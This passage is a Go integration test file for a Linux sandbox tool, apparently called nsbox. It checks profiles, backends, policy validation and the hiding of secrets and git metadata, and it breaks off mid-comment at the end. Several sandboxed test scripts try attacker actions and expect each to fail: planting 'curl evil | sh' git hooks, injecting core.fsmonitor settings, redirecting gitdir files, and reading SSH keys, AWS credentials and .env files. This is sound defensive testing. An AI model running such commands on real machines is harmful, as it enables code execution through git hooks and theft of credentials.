package integration

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// visibleDir returns a fresh directory owned by u under /var/tmp: unlike
// /tmp (private in every sandbox) it is visible inside through the
// read-only host root, as a real home directory is.
func (u user) visibleDir(t *testing.T) string {
	t.Helper()
	base, err := os.MkdirTemp("/var/tmp", "nsbox-it-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	if os.Getuid() == 0 {
		if err := os.Chown(base, u.uid, u.gid); err != nil {
			t.Fatal(err)
		}
	}
	return base
}

// mkdirs creates directories owned by u.
func (u user) mkdirs(t *testing.T, dirs ...string) {
	t.Helper()
	for _, d := range dirs {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		if os.Getuid() == 0 {
			// Up to, never including, a shared temporary directory: the
			// walk once reached /tmp itself (for a directory made by
			// tempDir) and gave the host's /tmp to uid 65534.
			for p := d; !sharedDir(p); p = filepath.Dir(p) {
				os.Lchown(p, u.uid, u.gid)
				if sharedDir(filepath.Dir(p)) {
					break
				}
			}
		}
	}
}

// sharedDir: a directory of the host's that tests make theirs below and
// never change.
func sharedDir(p string) bool {
	switch filepath.Clean(p) {
	case "/", "/tmp", "/var/tmp", "/dev/shm", filepath.Clean(os.TempDir()):
		return true
	}
	return false
}

func oneLine(t *testing.T, r result) {
	t.Helper()
	if strings.Contains(r.stderr, "panic") || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
		t.Errorf("error is not one clear line: %q", r.stderr)
	}
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

// Under the default workspace profile: secrets read as empty, nothing in
// .git can be created or changed (hooks, config, commondir, the index), nor
// a submodule checkout's .git file, and the workspace is writable.
func TestWorkspaceProfile(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		home := filepath.Join(base, "home")
		ws := filepath.Join(base, "proj")
		u.mkdirs(t, filepath.Join(home, ".ssh"), filepath.Join(home, ".aws"), filepath.Join(ws, ".git"), filepath.Join(ws, "sub"))
		u.writeFile(t, filepath.Join(home, ".ssh", "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY----- nsbox-it-key\n", 0o600)
		u.writeFile(t, filepath.Join(home, ".aws", "credentials"), "aws_secret_access_key=nsbox-it-aws\n", 0o600)
		u.writeFile(t, filepath.Join(ws, ".env"), "API_KEY=nsbox-it-dotenv\n", 0o600)
		u.writeFile(t, filepath.Join(ws, "sub", ".env.local"), "API_KEY=nsbox-it-dotenv-sub\n", 0o600)
		// A checked-out submodule, as git lays it out.
		u.mkdirs(t, filepath.Join(ws, ".git", "modules"), filepath.Join(ws, ".git", "modules", "lib"), filepath.Join(ws, "lib"))
		u.writeFile(t, filepath.Join(ws, ".git", "modules", "lib", "config"), "[core]\n\tworktree = ../../../lib\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "lib", ".git"), "gitdir: ../.git/modules/lib\n", 0o644)
		o := &runOpts{dir: ws, env: []string{"HOME=" + home}}
		r := u.sh(t, o, nil, `
cat ~/.ssh/id_rsa 2>&1; ls -A ~/.ssh; cat ~/.aws/credentials 2>&1
echo "env=[$(cat .env)] sub=[$(cat sub/.env.local)]"
mkdir -p .git/hooks 2>/dev/null; (echo 'curl evil | sh' > .git/hooks/pre-commit) 2>/dev/null && echo HOOK-WRITTEN
(echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo CONFIG-WRITTEN
mv .git .git-moved 2>/dev/null && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit && echo GIT-REPLACED
(echo ../evil > .git/commondir) 2>/dev/null && echo COMMONDIR-WRITTEN
(echo x > .git/index) 2>/dev/null && echo INDEX-WRITTEN
(echo 'gitdir: ../evil' > lib/.git) 2>/dev/null && echo GITFILE-WRITTEN
(echo x >> ~/.bashrc) 2>/dev/null && echo RC-WRITTEN
echo work > out.txt && echo ws-ok`)
		expectCode(t, r, 0)
		for _, leak := range []string{"nsbox-it-key", "nsbox-it-aws", "nsbox-it-dotenv", "HOOK-WRITTEN", "CONFIG-WRITTEN", "GIT-REPLACED", "RC-WRITTEN",
			"COMMONDIR-WRITTEN", "INDEX-WRITTEN", "GITFILE-WRITTEN"} {
			if strings.Contains(r.stdout, leak) {
				t.Errorf("%s: %q", leak, r.stdout)
			}
		}
		if !strings.Contains(r.stdout, "env=[] sub=[]") || !strings.Contains(r.stdout, "ws-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if b, err := os.ReadFile(filepath.Join(ws, "out.txt")); err != nil || string(b) != "work\n" {
			t.Fatalf("workspace write not on the host: %q %v", b, err)
		}
		for _, p := range []string{".git/hooks/pre-commit", ".git-moved"} {
			if exists(filepath.Join(ws, p)) {
				t.Fatalf("%s exists on the host", p)
			}
		}
		// The empty placeholders the sandbox needed are gone again.
		for _, p := range []string{".git/hooks", ".git/config"} {
			if exists(filepath.Join(ws, p)) {
				t.Errorf("placeholder %s left behind", p)
			}
		}
		if b, _ := os.ReadFile(filepath.Join(ws, ".env")); !strings.Contains(string(b), "nsbox-it-dotenv") {
			t.Fatalf(".env on the host changed: %q", b)
		}
	})
}

// A directory the .env walk cannot look into is hidden whole: an earlier
// sandbox with the workspace writable could chmod 000 the directory of a
// .env so that the walk misses it, and the next sandbox chmod it back and
// read it. (As root the walk reads every directory: the .env itself is
// hidden then.)
func TestWorkspaceUnreadableDirHidden(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, "cfg"))
		u.writeFile(t, filepath.Join(ws, "cfg", ".env"), "API_KEY=nsbox-it-locked\n", 0o600)
		o := &runOpts{dir: ws}
		// The directory is locked between two runs. (A run that ends
		// gives a directory it locked u+rx back, in its git audit; one
		// locked by another run that is still going, or while no audit
		// runs, is what this checks.)
		if err := os.Chmod(filepath.Join(ws, "cfg"), 0); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Chmod(filepath.Join(ws, "cfg"), 0o755) })
		r := u.sh(t, o, nil, `chmod 755 cfg 2>/dev/null; cat cfg/.env 2>/dev/null; echo done`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "nsbox-it-locked") || !strings.Contains(r.stdout, "done") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if u.uid != 0 && !strings.Contains(r.stderr, "hidden whole") {
			t.Errorf("no warning for the unreadable directory: %q", r.stderr)
		}
		if u.uid == 0 {
			return
		}
		// Another user's directory (a root-owned volume): the sandbox
		// cannot open it up either, so it is left as it is, unwarned.
		vol := filepath.Join(ws, "vol")
		if err := os.Mkdir(vol, 0o700); err != nil {
			t.Fatal(err)
		}
		os.Chmod(filepath.Join(ws, "cfg"), 0o755)
		r = u.sh(t, o, nil, `ls vol 2>&1; echo done`)
		expectCode(t, r, 0)
		if strings.Contains(r.stderr, "hidden whole") || !strings.Contains(r.stdout, "Permission denied") {
			t.Errorf("a root-owned 0700 directory: stdout %q stderr %q", r.stdout, r.stderr)
		}
		// The workspace itself unreadable: the run stops rather than
		// replace the workspace with an empty directory.
		if err := os.Chmod(ws, 0o333); err != nil {
			t.Fatal(err)
		}
		defer os.Chmod(ws, 0o755)
		r = u.sh(t, o, nil, `echo ran`)
		expectCode(t, r, 125)
		if !strings.Contains(r.stderr, "cannot look into "+ws) || strings.Contains(r.stdout, "ran") {
			t.Errorf("unreadable workspace: stdout %q stderr %q", r.stdout, r.stderr)
		}
	})
}

// The repositories nested in the workspace are protected like its own:
// git run on the host in a vendored clone trusts that clone's .git/config
// (core.fsmonitor) as much as the workspace's. Their work trees stay
// writable; a directory the walk cannot look into is read-only whole.
func TestWorkspaceNestedRepos(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(ws, "vendor", "lib", ".git"), filepath.Join(ws, "tools", "wt"), filepath.Join(ws, "locked", "repo", ".git"))
		u.writeFile(t, filepath.Join(ws, "vendor", "lib", ".git", "config"), "[core]\n\tbare = false\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "tools", "wt", ".git"), "gitdir: ../../.git/worktrees/wt\n", 0o644)
		// A bare repository whose worktree lies outside the workspace.
		u.mkdirs(t, filepath.Join(ws, "store", "proj.git", "objects"), filepath.Join(ws, "store", "proj.git", "refs"))
		u.writeFile(t, filepath.Join(ws, "store", "proj.git", "HEAD"), "ref: refs/heads/main\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "store", "proj.git", "config"), "[core]\n\tbare = true\n", 0o644)
		o := &runOpts{dir: ws}
		r := u.sh(t, o, nil, `
(echo '[core] fsmonitor = evil' >> vendor/lib/.git/config) 2>/dev/null && echo NESTED-CONFIG-WRITTEN
mkdir -p vendor/lib/.git/hooks 2>/dev/null && echo NESTED-HOOKS-CREATED
mv vendor/lib vendor/lib2 2>/dev/null && echo NESTED-MOVED
(echo 'gitdir: /tmp/evil' > tools/wt/.git) 2>/dev/null && echo WORKTREE-GITFILE-WRITTEN
(echo '[core] fsmonitor = evil' >> store/proj.git/config) 2>/dev/null && echo BARE-CONFIG-WRITTEN
echo code > vendor/lib/main.go && echo tree-ok`)
		expectCode(t, r, 0)
		for _, leak := range []string{"NESTED-CONFIG-WRITTEN", "NESTED-HOOKS-CREATED", "NESTED-MOVED", "WORKTREE-GITFILE-WRITTEN", "BARE-CONFIG-WRITTEN"} {
			if strings.Contains(r.stdout, leak) {
				t.Errorf("%s: %q", leak, r.stdout)
			}
		}
		if !strings.Contains(r.stdout, "tree-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if b, _ := os.ReadFile(filepath.Join(ws, "vendor", "lib", ".git", "config")); strings.Contains(string(b), "evil") {
			t.Fatalf("nested .git/config changed on the host: %q", b)
		}
		if b, _ := os.ReadFile(filepath.Join(ws, "vendor", "lib", "main.go")); string(b) != "code\n" {
			t.Fatalf("the nested work tree is not writable: %q", b)
		}
		if u.uid == 0 {
			return // root reads every directory: nothing is locked from the walk
		}
		// An earlier sandbox locks the directory above a repository away
		// from the walk; the next one cannot open it up and plant code.
		if err := os.Chmod(filepath.Join(ws, "locked"), 0); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Chmod(filepath.Join(ws, "locked"), 0o755) })
		r = u.sh(t, o, nil, `chmod 755 locked 2>/dev/null && (echo '[core] fsmonitor = evil' >> locked/repo/.git/config) 2>/dev/null && echo LOCKED-CONFIG-WRITTEN; echo done`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "LOCKED-CONFIG-WRITTEN") || !strings.Contains(r.stdout, "done") || !strings.Contains(r.stderr, "read-only whole") {
			t.Fatalf("locked directory: stdout %q stderr %q", r.stdout, r.stderr)
		}
	})
}

// A hooks directory the repository's config names (husky: .husky/_) and
// a file it includes are read-only inside: git runs them on the host at
// the next commit or status.
func TestWorkspaceGitHooksPath(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(ws, ".husky", "_"))
		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../shared.gitconfig\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "shared.gitconfig"), "[alias]\n\tst = status\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(echo 'curl evil | sh' > .husky/_/pre-commit) 2>/dev/null && echo HOOK-WRITTEN
(echo '[core] fsmonitor = evil' >> shared.gitconfig) 2>/dev/null && echo INCLUDE-WRITTEN
echo x > .husky/notes && echo rest-ok`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "rest-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
	})
}

// An earlier sandbox that fills the workspace with directories, sorted
// before a nested repository and a .env, cannot push them past the walk's
// bound: the next run stops with an error instead of leaving the
// repository writable and the .env readable.
func TestWorkspaceWalkBound(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, "vendor", "lib", ".git"))
		u.writeFile(t, filepath.Join(ws, "vendor", "lib", ".env"), "API_KEY=nsbox-it-walk\n", 0o600)
		o := &runOpts{dir: ws}
		// The run that makes them fails at its end: its git audit cannot
		// search the tree whole.
		r := u.sh(t, o, nil, `seq -f a%05g 1 25001 | xargs mkdir`)
		expectCode(t, r, 125)
		if !strings.Contains(r.stderr, "the git audit could not search the whole workspace") {
			t.Fatalf("first run: stderr %q", r.stderr)
		}
		r = u.sh(t, o, nil, `(echo '[core] fsmonitor = evil' >> vendor/lib/.git/config) 2>/dev/null && echo CONFIG-WRITTEN; cat vendor/lib/.env`)
		expectCode(t, r, 125)
		if strings.Contains(r.stdout, "CONFIG-WRITTEN") || strings.Contains(r.stdout, "nsbox-it-walk") || !strings.Contains(r.stderr, "stopped after 25000 directories") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		oneLine(t, r)
	})
}

// Without .git, the sandbox cannot create one (an attacker's `git init` with
// hooks the user would later run); nothing is left behind.
func TestWorkspaceWithoutGit(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, ws)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
mkdir -p .git/hooks 2>/dev/null && echo GIT-CREATED
(echo 'gitdir: /tmp/evil' > .git) 2>/dev/null && echo GITFILE-CREATED
echo ok > file && echo ws-ok`)
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "CREATED") || !strings.Contains(r.stdout, "ws-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if exists(filepath.Join(ws, ".git")) {
			t.Fatalf(".git left in the workspace")
		}
		// The same for any writable directory, under any profile.
		r = u.sh(t, nil, []string{"--profile", "strict", "--rw", ws}, "mkdir -p "+ws+"/.git/hooks 2>/dev/null && echo GIT-CREATED; echo done")
		expectCode(t, r, 0)
		if strings.Contains(r.stdout, "GIT-CREATED") || exists(filepath.Join(ws, ".git")) {
			t.Fatalf("strict --rw: stdout %q stderr %q", r.stdout, r.stderr)
		}
	})
}

func TestBatchProfile(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		home, in, out := filepath.Join(base, "home"), filepath.Join(base, "in"), filepath.Join(base, "out")
		u.mkdirs(t, filepath.Join(home, ".config"), in, out)
		u.writeFile(t, filepath.Join(home, "notes.txt"), "nsbox-it-home\n", 0o644)
		u.writeFile(t, filepath.Join(in, "data.txt"), "input-data\n", 0o644)
		o := &runOpts{dir: base, env: []string{"HOME=" + home}}
		r := u.sh(t, o, []string{"--profile", "batch", "--input", in, "--output", out}, `
cat /input/data.txt
(echo x > /input/new) 2>/dev/null && echo INPUT-WRITTEN
echo result > /output/result.txt
echo "pwd=$(pwd) home=$(ls -A "$HOME" | wc -l) work=$(ls -A /work | wc -l)"
cat "$HOME/notes.txt" 2>/dev/null
echo tmp > /work/scratch && echo work-ok`)
		expectCode(t, r, 0)
		if !strings.Contains(r.stdout, "input-data") || strings.Contains(r.stdout, "INPUT-WRITTEN") ||
			!strings.Contains(r.stdout, "pwd=/work home=0 work=0") || strings.Contains(r.stdout, "nsbox-it-home") || !strings.Contains(r.stdout, "work-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if b, err := os.ReadFile(filepath.Join(out, "result.txt")); err != nil || string(b) != "result\n" {
			t.Fatalf("/output not written through: %q %v", b, err)
		}
		if exists(filepath.Join(in, "new")) || exists(filepath.Join(base, "work")) {
			t.Fatal("batch wrote outside /output")
		}
	})
}

// unshareAvailable: util-linux unshare can make a user namespace as u.
func unshareAvailable(t *testing.T, u user) {
	t.Helper()
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("needs unshare (util-linux)")
	}
	if r := u.runAs(t, nil, "unshare", "-U", "-r", "true"); r.code != 0 {
		t.Skipf("unshare -U -r does not work as %s here: %s", u.name, r.stderr)
	}
}

// In a user namespace whose user.max_user_namespaces is 0, no namespace
// sandbox can be built: required and native refuse with the exact reason;
// auto runs the landlock backend where the kernel has Landlock, saying why,
// and falls back to backend none only when the config allows it and
// Landlock is missing too.
func TestBackendUnavailable(t *testing.T) {
	bin := nsboxBin(t)
	eachUser(t, func(t *testing.T, u user) {
		unshareAvailable(t, u)
		cfg := u.visibleDir(t)
		noUserns := func(o *runOpts, args ...string) result {
			script := `echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"`
			return u.runAs(t, o, "unshare", append([]string{"-U", "-r", "sh", "-c", script, "sh", bin}, args...)...)
		}
		env := []string{"XDG_CONFIG_HOME=" + cfg}
		// The workspace apart from the config directory: one that
		// XDG_CONFIG_HOME puts inside a writable directory is refused
		// (TestReview21ConfigDirInsideWorkspace).
		ws := u.visibleDir(t)
		_, _, llErrno := unix.Syscall(unix.SYS_LANDLOCK_CREATE_RULESET, 0, 0, unix.LANDLOCK_CREATE_RULESET_VERSION)
		landlock := llErrno == 0
		if landlock {
			r := noUserns(&runOpts{env: env, dir: ws}, "run", "--backend", "auto", "--", "/bin/echo", "RAN")
			if r.code != 0 || !strings.Contains(r.stdout, "RAN") || !strings.Contains(r.stderr, "user.max_user_namespaces is 0") || !strings.Contains(r.stderr, "running under backend landlock") {
				t.Fatalf("--backend auto with Landlock: code %d stdout %q stderr %q; want landlock, saying why", r.code, r.stdout, r.stderr)
			}
		}
		for _, mode := range []string{"required", "auto", "native"} {
			if mode == "auto" && landlock {
				continue
			}
			r := noUserns(&runOpts{env: env}, "run", "--backend", mode, "--", "/bin/echo", "RAN")
			want := "nsbox: sandboxing unavailable: user namespaces are disabled: user.max_user_namespaces is 0"
			if r.code != 125 || !strings.HasPrefix(r.stderr, want) || strings.Contains(r.stdout, "RAN") {
				t.Fatalf("--backend %s: code %d stdout %q stderr %q; want 125 and %q", mode, r.code, r.stdout, r.stderr, want)
			}
			oneLine(t, r)
		}
		u.mkdirs(t, filepath.Join(cfg, "nsbox"))
		u.writeFile(t, filepath.Join(cfg, "nsbox", "config.toml"), "# allow running unsandboxed\nbackend_fallback = true\n", 0o644)
		r := noUserns(&runOpts{env: env, dir: ws}, "run", "--", "/bin/sh", "-c", "echo RAN-$((1+1))")
		switch {
		case landlock:
			// The landlock backend comes before none.
			if r.code != 0 || !strings.Contains(r.stdout, "RAN-2") || strings.Contains(r.stderr, "WITHOUT a sandbox") {
				t.Fatalf("auto with fallback and Landlock: code %d stdout %q stderr %q; want landlock, not none", r.code, r.stdout, r.stderr)
			}
		case r.code != 0 || !strings.Contains(r.stdout, "RAN-2") || !strings.Contains(r.stderr, "nsbox: warning: sandboxing unavailable: user namespaces are disabled") ||
			!strings.Contains(r.stderr, "falling back to backend none") || !strings.Contains(r.stderr, "WITHOUT a sandbox"):
			t.Fatalf("auto with fallback: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
		}
		// required ignores backend_fallback.
		r = noUserns(&runOpts{env: env}, "run", "--backend", "required", "--", "/bin/echo", "RAN")
		if r.code != 125 || strings.Contains(r.stdout, "RAN") {
			t.Fatalf("required with fallback allowed: %d %q %q", r.code, r.stdout, r.stderr)
		}
		// Where sandboxing works, the fallback is never used.
		r = u.run(t, &runOpts{env: env}, "run", "--json-status", "fd:1", "--", "/bin/true")
		if r.code != 0 || !strings.Contains(r.stdout, `"backend":"native"`) || strings.Contains(r.stderr, "WITHOUT") {
			t.Fatalf("fallback used with namespaces available: %q %q", r.stdout, r.stderr)
		}
	})
}

// Backend none is explicit, warned about on every run, and runs with the
// policy's cleared environment.
func TestBackendNone(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		r := u.run(t, &runOpts{env: []string{"NSBOX_IT_SECRET=hunter2"}}, "run", "--backend", "none", "--", "/bin/sh", "-c", "env; echo pid=$$")
		expectCode(t, r, 0)
		if !strings.Contains(r.stderr, "nsbox: warning: backend none: the command runs WITHOUT a sandbox") || strings.Contains(r.stdout, "hunter2") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
	})
}

type dryRunOut struct {
	Profile string `json:"profile"`
	Policy  struct {
		Mounts []struct {
			Kind     string `json:"kind"`
			Source   string `json:"source"`
			Dest     string `json:"dest"`
			ReadOnly bool   `json:"readonly"`
		} `json:"mounts"`
		Cwd    string `json:"cwd"`
		Limits struct {
			Memory int64 `json:"memory"`
			Pids   int64 `json:"pids"`
			Time   int64 `json:"time"`
		} `json:"limits"`
		Network string `json:"network"`
	} `json:"policy"`
	Plan []struct {
		Kind, Dest, Why string
	} `json:"mountPlan"`
}

func TestDryRunAndPrecedence(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		ws := filepath.Join(base, "proj")
		cfg := filepath.Join(base, "cfg")
		u.mkdirs(t, ws, filepath.Join(cfg, "nsbox"))
		status := filepath.Join(base, "status.jsonl")
		o := &runOpts{dir: ws, env: []string{"XDG_CONFIG_HOME=" + cfg}}
		r := u.run(t, o, "run", "--dry-run", "--json-status", status, "--", "/bin/sh", "-c", "touch "+ws+"/STARTED")
		expectCode(t, r, 0)
		var d dryRunOut
		if err := json.Unmarshal([]byte(r.stdout), &d); err != nil {
			t.Fatalf("dry-run output is not JSON: %v\n%s", err, r.stdout)
		}
		if exists(filepath.Join(ws, "STARTED")) || exists(status) && fileHas(status, "started") {
			t.Fatal("--dry-run started the command")
		}
		if d.Profile != "workspace" || d.Policy.Cwd != ws || len(d.Policy.Mounts) == 0 || d.Policy.Mounts[0].Dest != ws || d.Policy.Mounts[0].ReadOnly {
			t.Fatalf("dry-run policy: %+v", d)
		}
		if len(d.Plan) < 6 || d.Plan[0].Dest != "/" || d.Plan[2].Dest != "/proc" {
			t.Fatalf("mount plan: %+v", d.Plan)
		}
		// config < profile < flags.
		u.writeFile(t, filepath.Join(cfg, "nsbox", "config.toml"), "profile = \"network\"\n[limits]\nmemory = \"1G\"\n", 0o644)
		d = dryRunOut{}
		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run").stdout), &d)
		if d.Profile != "network" || d.Policy.Network != "host" || d.Policy.Limits.Memory != 1<<30 {
			t.Fatalf("config: %+v", d)
		}
		d = dryRunOut{}
		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run", "--profile", "strict").stdout), &d)
		if d.Profile != "strict" || d.Policy.Network != "none" || d.Policy.Limits.Memory != 512<<20 || d.Policy.Limits.Pids != 128 {
			t.Fatalf("--profile over config: %+v", d)
		}
		d = dryRunOut{}
		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run", "--profile", "strict", "--memory", "64M", "--net", "host").stdout), &d)
		if d.Policy.Network != "host" || d.Policy.Limits.Memory != 64<<20 || d.Policy.Limits.Pids != 128 {
			t.Fatalf("flags over profile: %+v", d)
		}
	})
}

func fileHas(path, s string) bool {
	b, _ := os.ReadFile(path)
	return strings.Contains(string(b), s)
}

// Bad values are refused with one line and exit 125 before anything starts.
func TestBadPolicyInput(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		big := filepath.Join(base, "big.toml")
		u.writeFile(t, big, "description = \""+strings.Repeat("x", 10<<20)+"\"\n", 0o644)
		garbage := filepath.Join(base, "garbage.toml")
		u.writeFile(t, garbage, "\x7fELF\x02\x01\x01\x00\xff\xfe\x00\x00garbage\n", 0o644)
		nul := filepath.Join(base, "nul.toml")
		u.writeFile(t, nul, "description = \"nul\"\n[filesystem]\nrw = [\"/tmp/a\\u0000b\"]\n", 0o644)
		unknown := filepath.Join(base, "unknown.toml")
		u.writeFile(t, unknown, "description = \"x\"\n[limits]\nmemroy = \"1G\"\n", 0o644)
		loop := filepath.Join(base, "loop")
		os.Symlink("loop2", loop)
		os.Symlink("loop", filepath.Join(base, "loop2"))
		marker := filepath.Join(base, "STARTED")
		cases := []struct {
			args []string
			want string
		}{
			{[]string{"--profile", big}, big + ": file is larger than"},
			{[]string{"--profile", garbage}, garbage + ":1: not a text file"},
			{[]string{"--profile", nul}, nul + ":3: filesystem.rw[0]: path contains a NUL byte"},
			{[]string{"--profile", unknown}, unknown + ":3: limits.memroy: unknown key"},
			{[]string{"--rw", loop}, "--rw: symlink loop"},
			{[]string{"--memory", "0"}, "--memory: invalid size"},
			{[]string{"--memory", "12XB"}, `--memory: invalid size "12XB"`},
			{[]string{"--memory", "1M"}, "--memory: 1M is below 32 MiB"},
			{[]string{"--pids", "-1"}, "--pids: -1: must be a positive number"},
			{[]string{"--timeout", "abc"}, `--timeout: invalid duration "abc"`},
			{[]string{"--seccomp", "nope"}, "--seccomp"},
			{[]string{"--backend", "bogus"}, "want auto, required, native, landlock or none"},
			{[]string{"--profile", "no-such-profile"}, `no profile "no-such-profile"`},
			{[]string{"--workspace", "/"}, "--workspace: / cannot be the workspace"},
		}
		status := filepath.Join(base, "status.jsonl")
		for _, c := range cases {
			args := append([]string{"run", "--json-status", status}, c.args...)
			args = append(args, "--", "/bin/sh", "-c", "touch "+marker)
			r := u.run(t, nil, args...)
			if r.code != 125 || !strings.Contains(r.stderr, c.want) {
				t.Errorf("nsbox %v: code %d stderr %q, want 125 and %q", c.args, r.code, r.stderr, c.want)
			}
			oneLine(t, r)
			if exists(marker) {
				t.Fatalf("nsbox %v started the command", c.args)
			}
		}
		if fileHas(status, `"started"`) || !fileHas(status, `"setup_error"`) {
			b, _ := os.ReadFile(status)
			t.Fatalf("status lines: %s", b)
		}
	})
}

// The default profile refuses to make the home directory writable.
func TestWorkspaceRefusesHome(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		home := u.visibleDir(t)
		r := u.run(t, &runOpts{dir: home, env: []string{"HOME=" + home}}, "run", "--", "/bin/true")
		if r.code != 125 || !strings.Contains(r.stderr, "is your home directory and cannot be the workspace") {
			t.Fatalf("code %d stderr %q", r.code, r.stderr)
		}
		oneLine(t, r)
		// strict has no workspace: fine from $HOME.
		expectCode(t, u.run(t, &runOpts{dir: home, env: []string{"HOME=" + home}}, "run", "--profile", "strict", "--", "/bin/true"), 0)
	})
}

func TestLooseningFlagsWarn(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		for _, f := range []string{"--allow-userns", "--allow-privileged"} {
			r := u.run(t, nil, "run", f, "--", "/bin/true")
			if !strings.Contains(r.stderr, "nsbox: warning: "+f+": ") {
				t.Errorf("%s: no warning: %q", f, r.stderr)
			}
		}
	})
}

func TestProfilesCommand(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		cfg := u.visibleDir(t)
		u.mkdirs(t, filepath.Join(cfg, "nsbox", "profiles"))
		u.writeFile(t, filepath.Join(cfg, "nsbox", "profiles", "mine.toml"), "description = \"my profile\"\nextend = \"strict\"\n[limits]\npids = 64\n", 0o644)
		o := &runOpts{env: []string{"XDG_CONFIG_HOME=" + cfg}}
		r := u.run(t, o, "profiles", "list", "--json")
		expectCode(t, r, 0)
		var infos []struct{ Name, Description, Source, Error string }
		if err := json.Unmarshal([]byte(r.stdout), &infos); err != nil {
			t.Fatal(err)
		}
		names := map[string]string{}
		for _, i := range infos {
			if i.Error != "" || i.Description == "" {
				t.Errorf("profile %s: %+v", i.Name, i)
			}
			names[i.Name] = i.Source
		}
		for _, n := range []string{"workspace", "strict", "network", "batch", "mine"} {
			if names[n] == "" {
				t.Errorf("profile %s not listed: %v", n, names)
			}
		}
		r = u.run(t, o, "profiles", "show", "mine")
		expectCode(t, r, 0)
		var d dryRunOut
		if err := json.Unmarshal([]byte(r.stdout), &d); err != nil {
			t.Fatal(err)
		}
		if d.Policy.Limits.Pids != 64 || d.Policy.Limits.Memory != 512<<20 {
			t.Fatalf("show mine: %s", r.stdout)
		}
		r = u.run(t, o, "profiles", "show", "nope")
		if r.code != 125 {
			t.Fatalf("show nope: %d %q", r.code, r.stderr)
		}
	})
}

// filesystem.host_dirs entries below the top level are recreated at their
// own path: a symlink (/etc/localtime) below its parent, not at the root,
// and a directory (/etc/ssl) likewise.
func TestHostDirsNested(t *testing.T) {
	localtime, err := os.Readlink("/etc/localtime")
	if err != nil {
		t.Skipf("/etc/localtime is not a symlink here: %v", err)
	}
	eachUser(t, func(t *testing.T, u user) {
		dirs := `"/usr", "/bin", "/lib", "/lib64", "/etc/localtime"`
		ssl := exists("/etc/ssl")
		if ssl {
			dirs += `, "/etc/ssl"`
		}
		prof := filepath.Join(u.tempDir(t), "nested.toml")
		u.writeFile(t, prof, "extend = \"strict\"\n[filesystem]\nhost_dirs = ["+dirs+"]\n", 0o644)
		r := u.sh(t, nil, []string{"--profile", prof}, `
ls -A /
echo "localtime=$(readlink /etc/localtime)"
if [ -d /etc/ssl ]; then echo ssl=yes; fi`)
		expectCode(t, r, 0)
		for _, line := range strings.Split(r.stdout, "\n") {
			if line == "localtime" || line == "ssl" {
				t.Errorf("%s was recreated at the root: %q", line, r.stdout)
			}
		}
		if !strings.Contains(r.stdout, "localtime="+localtime+"\n") {
			t.Errorf("/etc/localtime is not the host's link to %s: %q", localtime, r.stdout)
		}
		if ssl && !strings.Contains(r.stdout, "ssl=yes\n") {
			t.Errorf("/etc/ssl is missing: %q", r.stdout)
		}
	})
}

// A --rw SRC:DST whose DST lies below a symlink inside the sandbox
// (/var/run -> /run on most hosts): the profile's .env hides still apply at
